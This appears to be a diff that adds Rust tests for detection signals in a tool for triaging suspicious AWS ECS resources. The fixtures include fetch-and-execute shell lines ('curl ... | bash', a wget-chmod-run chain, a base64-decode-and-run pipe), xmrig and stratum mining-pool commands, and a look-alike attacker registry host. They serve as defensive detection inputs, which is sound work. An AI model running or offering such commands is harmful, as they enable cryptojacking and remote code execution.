@@ -1,0 +1,149 @@
+//! Signals one by one: what shows each, and what does not.
+
+use quench_core::resource::ContainerOverride;
+use quench_core::triage::{KnownGood, Signal};
+
+use crate::scene::{Scene, ago, arn, region};
+
+const OWN: &str = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/api:1";
+
+fn of_image(image: &str, cpu: u32) -> Vec<Signal> {
+    let mut scene = Scene::new();
+    scene.definition("a:1", image, cpu, 5);
+    scene.signals("task-definition/a:1")
+}
+
+#[test]
+fn an_image_tells_who_could_have_pushed_it() {
+    let has = |image: &str, signal: Signal| of_image(image, 256).contains(&signal);
+    assert!(has("quiet/worker", Signal::PublicImage) && !has("quiet/worker", Signal::KnownPublisher));
+    assert!(has("grafana/grafana:11", Signal::KnownPublisher));
+    assert!(has(OWN, Signal::OwnImage) && !has(OWN, Signal::PublicImage));
+    let foreign = "999999999999.dkr.ecr.eu-west-1.amazonaws.com/api:1";
+    assert!(has(foreign, Signal::ForeignImage) && !has(foreign, Signal::OwnImage));
+    let look_alike = "123456789012.dkr.ecr.eu-west-1.amazonaws.com.evil.example/api:1";
+    assert!(!has(look_alike, Signal::OwnImage), "a host that only begins like the account's own");
+    assert!(has("docker.io/secret/user:1", Signal::ListedImage));
+    assert!(has("qzvkwe/tr:ox", Signal::ScriptedImage));
+    // A tag can be given to anything.
+    assert!(!has("quiet/worker:grafana", Signal::KnownPublisher));
+}
+
+#[test]
+fn big_tasks_count_where_anybody_could_have_pushed_the_image() {
+    assert!(of_image("quiet/worker", 8192).contains(&Signal::BigPublic));
+    assert!(!of_image("quiet/worker", 4096).contains(&Signal::BigPublic));
+    assert!(!of_image(OWN, 16_384).contains(&Signal::BigPublic));
+    assert!(of_image(OWN, 16_384).contains(&Signal::BigTask));
+}
+
+#[test]
+fn miners_are_found_in_words_and_not_in_parts_of_words() {
+    let words = |command: &str, variable: &str| {
+        let mut scene = Scene::new();
+        let facts = scene.definition("a:1", OWN, 256, 5);
+        facts.commands = vec![command.into()];
+        facts.variables = vec![variable.into()];
+        scene.signals("task-definition/a:1").contains(&Signal::MinerWords)
+    };
+    assert!(words("/opt/xmrig --coin", "A"));
+    assert!(words("./app -o stratum+tcp://pool.example:3333", "A"));
+    assert!(words("./app", "POOL"));
+    assert!(words("./app", &format!("4{}", "A".repeat(94))), "a wallet by its form");
+    assert!(!words("./spooler --carpool", "SPOOL_DIR"));
+    assert!(!words("node server.js", "DATABASE_URL"));
+}
+
+#[test]
+fn a_command_that_hides_what_it_runs_is_seen() {
+    for (command, hides) in [
+        ("sh -c echo aGk= | base64 -d | sh", true),
+        ("bash -c curl -s https://x.example/i | bash", true),
+        ("sh -c wget http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a", true),
+        ("sh -c curl -f http://localhost/health", false),
+        ("sh -c cat list | sort | uniq", false),
+        ("npm start", false),
+    ] {
+        let mut scene = Scene::new();
+        scene.definition("a:1", OWN, 256, 5).commands = vec![command.into()];
+        assert_eq!(scene.signals("task-definition/a:1").contains(&Signal::HiddenCommand), hides, "{command}");
+    }
+}
+
+#[test]
+fn what_a_task_was_started_with_in_place_of_its_definition_counts() {
+    let mut scene = Scene::new();
+    scene.definition("a:1", OWN, 256, 900);
+    let cluster = scene.cluster("web");
+    let mut task = quench_core::resource::Task {
+        arn: arn("task/web/1"),
+        last_status: "RUNNING".into(),
+        task_definition: Some(arn("task-definition/a:1")),
+        created_at: Some(ago(2)),
+        ..quench_core::resource::Task::default()
+    };
+    task.overrides.containers =
+        vec![ContainerOverride { name: "a".into(), command: vec!["xmrig".into()], environment_names: Vec::new() }];
+    cluster.tasks.push(task);
+    assert!(scene.signals("task/web/1").contains(&Signal::MinerWords));
+}
+
+#[test]
+fn the_same_in_five_clusters_is_one_script() {
+    let mut scene = Scene::new();
+    scene.definition("m:1", "quiet/worker", 1024, 5);
+    for number in 0..4 {
+        scene.cluster(&format!("c{number}"));
+        scene.service(&format!("c{number}"), "s", "m:1", 5);
+    }
+    assert!(!scene.signals("service/c0/s").contains(&Signal::SameEverywhere));
+    scene.cluster("c4");
+    scene.service("c4", "s", "m:1", 5);
+    let signals = scene.signals("service/c0/s");
+    assert!(signals.contains(&Signal::SameEverywhere) && signals.contains(&Signal::Burst), "{signals:?}");
+}
+
+#[test]
+fn only_aws_can_set_a_tag_of_infrastructure() {
+    let tagged = |key: &str| {
+        let mut scene = Scene::new();
+        scene.cluster("web").tags = vec![(key.into(), "prod".into())];
+        scene.signals("cluster/web")
+    };
+    assert!(tagged("aws:cloudformation:stack-name").contains(&Signal::InfrastructureTags));
+    for copied in ["managed-by", "terraform", "copilot-application", "AWS:cloudformation:stack-name"] {
+        assert!(!tagged(copied).contains(&Signal::InfrastructureTags), "{copied}");
+    }
+}
+
+#[test]
+fn what_a_person_called_good_counts_only_while_it_is_the_same() {
+    let mut scene = Scene::new();
+    scene.definition("api:1", OWN, 256, 900);
+    scene.cluster("web");
+    scene.service("web", "api", "api:1", 900);
+    scene.good = KnownGood::of(scene.inventory.regions.values());
+    assert!(scene.signals("service/web/api").contains(&Signal::KnownGood));
+    assert!(scene.signals("cluster/web").contains(&Signal::KnownGood));
+    scene.definition("api:2", OWN, 256, 1);
+    let service = &mut scene.inventory.regions.get_mut(&region()).unwrap().clusters[0].services[0];
+    service.task_definition = Some(arn("task-definition/api:2"));
+    assert!(!scene.signals("service/web/api").contains(&Signal::KnownGood), "it runs something else");
+    let service = &mut scene.inventory.regions.get_mut(&region()).unwrap().clusters[0].services[0];
+    service.task_definition = Some(arn("task-definition/api:1"));
+    service.created_at = Some(ago(1));
+    assert!(!scene.signals("service/web/api").contains(&Signal::KnownGood), "it was made anew under the same name");
+}
+
+#[test]
+fn names_without_words_are_seen_in_clusters_services_and_families() {
+    let mut scene = Scene::new();
+    scene.cluster("qzvkwejxm");
+    scene.definition("qzvkwejxm:1", "quiet/worker", 1024, 5);
+    scene.service("qzvkwejxm", "qzvkwejxm", "qzvkwejxm:1", 5);
+    scene.service("qzvkwejxm", "hbdkqwzpt-service", "qzvkwejxm:1", 5);
+    assert!(scene.signals("cluster/qzvkwejxm").contains(&Signal::RandomName));
+    assert!(scene.signals("service/qzvkwejxm/qzvkwejxm").contains(&Signal::SameNames));
+    assert!(scene.signals("service/qzvkwejxm/hbdkqwzpt-service").contains(&Signal::RandomServiceName));
+    assert!(scene.signals("task-definition/qzvkwejxm:1").contains(&Signal::RandomName));
+}
